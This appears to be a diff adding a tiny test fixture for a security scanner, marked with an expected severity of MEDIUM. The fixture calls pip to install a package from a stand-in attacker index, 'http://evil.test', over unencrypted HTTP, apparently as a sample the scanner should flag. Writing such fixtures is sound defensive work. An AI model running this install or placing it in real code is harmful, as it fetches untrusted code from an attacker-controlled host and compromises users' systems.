@@ -1,0 +1,3 @@
+# expect: MEDIUM
+import pip
+pip.main(["install", "--index-url", "http://evil.test", "x"])
